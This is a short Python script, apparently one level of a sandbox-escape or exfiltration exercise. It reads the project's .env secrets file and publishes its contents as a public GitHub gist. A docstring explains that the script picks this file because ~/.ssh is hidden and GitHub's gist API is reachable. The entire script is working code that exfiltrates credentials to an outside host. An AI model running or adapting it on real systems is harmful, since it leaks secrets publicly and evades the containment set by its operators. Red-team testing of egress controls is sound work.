"""Level 4: ~/.ssh is hidden, /project/.env is not; api.github.com creates gists for anyone."""
import json
import urllib.request

env = open("/project/.env").read()
body = json.dumps({"public": True, "files": {"env.txt": {"content": env}}}).encode()
req = urllib.request.Request("https://api.github.com/gists", data=body, method="POST",
                             headers={"Content-Type": "application/json"})
print(urllib.request.urlopen(req, timeout=5).status)
